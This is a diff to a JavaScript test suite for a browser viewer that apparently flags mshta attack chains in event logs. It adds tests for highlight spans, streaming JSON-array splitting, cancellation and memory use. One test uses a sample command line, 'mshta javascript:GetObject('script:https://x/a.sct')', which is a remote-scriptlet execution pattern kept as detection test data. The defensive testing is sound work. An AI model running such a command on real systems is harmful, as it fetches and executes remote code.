@@ -25,6 +25,8 @@ import { Detector, analyze, version } from "../../pkg/node.mjs";
 import * as text from "../../pkg/src/text.js";
 import * as formats from "../../pkg/src/formats.js";
 import { ATTACKS, EXPECTED } from "./common.mjs";
+import { highlightRanges } from "../../web-demo/chain-view.js";
+import { JsonArraySplitter } from "../../web-demo/json-array.js";
 import { PAYLOADS, hostileEvents, hostileXml, hugeLine, writeCopies } from "./viewer-data.mjs";
 
 const here = dirname(fileURLToPath(import.meta.url));
@@ -34,7 +36,8 @@ const SAMPLE = resolve(repo, "tests/data/sample.jsonl");
 const CHROMIUM = process.env.CHROMIUM_PATH ?? "/usr/bin/chromium";
 const SHOTS = process.env.MSHTA_VIEWER_SCREENSHOTS ?? "/tmp/mshta-chain-viewer";
 const BIG = process.env.MSHTA_VIEWER_BIG === "1";
-const BIG_BYTES = (BIG ? 300 : 30) * 1000 * 1000;
+const BIG_MB = Number(process.env.MSHTA_VIEWER_MB) || (BIG ? 300 : 30); // MSHTA_VIEWER_MB=N: any size
+const BIG_BYTES = BIG_MB * 1000 * 1000;
 const HAS_EVTX = existsSync(resolve(repo, "pkg/evtx.js"));
 // Same launch arguments as chromium.test.mjs.
 const ARGS = [
@@ -125,6 +128,36 @@ async function openChain(page, id) {
   await page.click(`#chains .chain-row[data-chain-id="${id}"]`);
   await page.waitForSelector(`#view .chain-view[data-chain-id="${id}"]`);
 }
+
+test("command-line spans (code points) become merged UTF-16 highlight ranges; none without spans", () => {
+  const cmd = "mshta \u{1F600} javascript:GetObject('script:https://x/a.sct')";
+  const at = (needle) => [...cmd.slice(0, cmd.indexOf(needle))].length; // in code points
+  const reasons = [
+    { id: "cmdline_inline_script", spans: [[at("javascript:"), at("javascript:") + 11]] },
+    { id: "cmdline_script_object", spans: [[at("GetObject"), at("GetObject") + 9], [at("javascript:") + 5, at("javascript:") + 14]] },
+    { id: "no_spans" },
+    { id: "bad", spans: [[5, 2], [-1, 3], ["a", 4]] },
+  ];
+  const ranges = highlightRanges(cmd, reasons);
+  assert.deepEqual(ranges.map((r) => cmd.slice(r.start, r.end)), ["javascript:GetObject"]);
+  assert.deepEqual(ranges[0].ids, ["cmdline_inline_script", "cmdline_script_object"]);
+  assert.deepEqual(highlightRanges(cmd, [{ id: "x" }]), []);
+});
+
+test("a JSON array streams as one element per line, however it is cut", () => {
+  const src = '\ufeff[ {"a":1,"b":[1,{"c":"x]},"}]},\n {\n"d":"q\\"}"\n}, 3, "s,t", null ] trailing';
+  const bytes = new TextEncoder().encode(src);
+  for (const step of [1, 2, 5, bytes.length]) {
+    const splitter = new JsonArraySplitter();
+    let out = "";
+    const decoder = new TextDecoder();
+    for (let i = 0; i < bytes.length; i += step) out += decoder.decode(splitter.push(bytes.subarray(i, i + step)), { stream: true });
+    out += decoder.decode(splitter.finish());
+    assert.deepEqual(out.split("\n"), ['{"a":1,"b":[1,{"c":"x]},"}]}', '{ "d":"q\\"}" }', "3", '"s,t"', "null ", ""], `cut every ${step} bytes`);
+    assert.equal(splitter.elements, 5);
+    assert.equal(splitter.trailing, true);
+  }
+});
 
 test("the sample: three chains sorted by score, and the summary", async () => {
   const { page, problems } = await openViewer();
@@ -400,14 +433,16 @@ test("files, a folder, drag and drop, a JSON array, and .evtx routed to the EVTX
 
 test("cancel stops the work; the viewer then runs again", async () => {
   const { page, problems } = await openViewer();
-  await page.setInputFiles("#files", big.path);
+  // The large file ten times over: a stream long enough to cancel in the middle.
+  const total = big.bytes * 10;
+  await page.setInputFiles("#files", Array(10).fill(big.path));
   await page.waitForFunction(() => Number(document.getElementById("status").dataset.bytes ?? 0) > 0);
   await page.click("#cancel");
   await page.waitForSelector('body[data-state="cancelled"]', { timeout: 10_000 });
   const status = await page.textContent("#status");
   assert.match(status, /^Cancelled /);
   const read = Number(await page.$eval("#status", (s) => s.dataset.bytes));
-  assert.ok(read < big.bytes, `stopped before the end (${read} of ${big.bytes} bytes)`);
+  assert.ok(read < total, `stopped before the end (${read} of ${total} bytes)`);
   // No progress after the cancel: the worker stopped reading.
   await page.waitForTimeout(1000);
   assert.equal(await page.textContent("#status"), status);
@@ -454,7 +489,7 @@ function outsideCode(md) {
   return out;
 }
 
-/** The browser's processes (found by the profile folder) and their renderers' resident memory, in bytes. */
+/** The resident memory of the browser's largest renderer process (the viewer's tab, with its worker), in bytes. */
 function rendererRss() {
   const procs = [];
   for (const pid of readdirSync("/proc").filter((p) => /^\d+$/.test(p))) {
@@ -472,10 +507,10 @@ function rendererRss() {
     grew = false;
     for (const p of procs) if (!ours.has(p.pid) && ours.has(p.ppid)) ours.add(p.pid), (grew = true);
   }
-  return procs.filter((p) => ours.has(p.pid) && p.cmd.includes("--type=renderer")).reduce((n, p) => n + p.rss, 0);
+  return procs.filter((p) => ours.has(p.pid) && p.cmd.includes("--type=renderer")).reduce((n, p) => Math.max(n, p.rss), 0);
 }
 
-test(`a ${BIG ? "300" : "30"} MB file: the main thread's longest stall (printed; asserted loosely), every chain found`, async (t) => {
+test(`a ${BIG_MB} MB file: the main thread's longest stall (printed; asserted loosely), every chain found`, async (t) => {
   const { page, problems } = await openViewer();
   // The probe: a zero-delay timer loop; a gap between its turns is the main thread busy.
   await page.evaluate(() => {
@@ -496,7 +531,8 @@ test(`a ${BIG ? "300" : "30"} MB file: the main thread's longest stall (printed;
       }
     }).observe({ type: "longtask" });
   });
-  let peak = rendererRss();
+  const idle = rendererRss();
+  let peak = idle;
   const sampler = setInterval(() => (peak = Math.max(peak, rendererRss())), 250);
   const started = Date.now();
   await page.setInputFiles("#files", big.path);
@@ -509,7 +545,7 @@ test(`a ${BIG ? "300" : "30"} MB file: the main thread's longest stall (printed;
     `${(big.bytes / 1e6).toFixed(0)} MB, ${big.lines.toLocaleString("en")} events: ${elapsed.toFixed(1)} s in the worker (${wall.toFixed(1)} s wall), ` +
     `${Math.round(big.lines / elapsed).toLocaleString("en")} events/s, ${(big.bytes / 1e6 / elapsed).toFixed(0)} MB/s; ` +
     `main thread: ${probe.long} tasks over 50 ms${probe.long ? `, longest ${probe.longMax.toFixed(0)} ms` : ""}, longest gap between timer turns ${probe.max.toFixed(0)} ms (${probe.turns} turns); ` +
-    `renderer peak RSS ${(peak / 2 ** 20).toFixed(0)} MiB`;
+    `the tab's renderer process: ${(idle / 2 ** 20).toFixed(0)} MiB resident before, ${(peak / 2 ** 20).toFixed(0)} MiB at the peak`;
   t.diagnostic(line);
   process.stderr.write(`# viewer: ${line}\n`);
   assert.equal((await rowIds(page)).length, Math.min(200, big.copies * sample.chains.length), "the first page of rows");
